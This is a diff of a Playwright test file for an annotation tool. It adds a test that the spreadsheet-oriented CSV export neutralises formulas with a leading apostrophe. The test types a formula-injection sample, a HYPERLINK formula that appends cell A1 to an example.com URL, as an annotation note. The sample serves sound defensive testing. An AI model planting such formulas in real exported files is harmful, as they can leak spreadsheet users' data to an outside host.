@@ -5,9 +5,9 @@
 import { test, expect } from '@playwright/test';
 import fs from 'node:fs';
 import path from 'node:path';
-import { openFresh, annotationList } from './helpers.mjs';
+import { openFresh, annotationList, dragSelect } from './helpers.mjs';
 import {
-  readNative, checkW3c, checkBrat, unzipStored, checkSpacy, checkDoccano, checkCsv,
+  readNative, checkW3c, checkBrat, unzipStored, checkSpacy, checkDoccano, checkCsv, parseCsv,
 } from '../interop/check.mjs';
 
 const FIXTURES = path.join(path.dirname(new URL(import.meta.url).pathname), '..', 'fixtures');
@@ -125,4 +125,36 @@ test('a brat .ann with its .txt imports as two files; broken files of each forma
     await expect(alert).toContainText('Nothing was changed');
     await expect(list.getByRole('listitem')).toHaveCount(17);
   }
+});
+
+test('the menu offers CSV for programs and CSV for spreadsheets; the spreadsheet file neutralises a formula in a note', async ({ page }, info) => {
+  await openFresh(page);
+  const formula = '=HYPERLINK("https://example.com/?q="&A1,"click")';
+  await dragSelect(page, 'Dmitry Peskov');
+  await page.keyboard.press('1');
+  await page.keyboard.press('n');
+  await page.keyboard.type(formula);
+  await page.keyboard.press('Tab');
+  await expect(annotationList(page).getByRole('listitem').first()).toContainText('✎');
+
+  await page.getByRole('button', { name: /^Export/ }).click();
+  const forPrograms = page.getByRole('menuitem', { name: /^CSV, a row per annotation/ });
+  const forSheets = page.getByRole('menuitem', { name: /^CSV for spreadsheets/ });
+  await expect(forPrograms).toContainText('for pandas, R and scripts: every cell exact');
+  await expect(forSheets).toContainText("for Excel, LibreOffice, Google Sheets: cells starting with = + - @ get a ' so they never run as formulas");
+  await page.screenshot({ path: info.outputPath('export-menu-csv.png') });
+  await page.keyboard.press('Escape');
+
+  const exact = await exportAs(page, /^CSV, a row per annotation/, info);
+  expect(exact.name).toMatch(/\.annotations\.csv$/);
+  const exactNote = parseCsv(exact.bytes.toString('utf8'))[1][6];
+  expect(exactNote).toBe(formula);
+
+  const sheets = await exportAs(page, /^CSV for spreadsheets/, info);
+  expect(sheets.name).toMatch(/\.spreadsheet\.csv$/);
+  const [header, row] = parseCsv(sheets.bytes.toString('utf8'));
+  expect(header[6]).toBe('note');
+  expect(row[6]).toBe(`'${formula}`);
+  for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  await expect(page.getByRole('status').first()).toContainText("got a ' in front (1 note), so no spreadsheet runs them as formulas");
 });
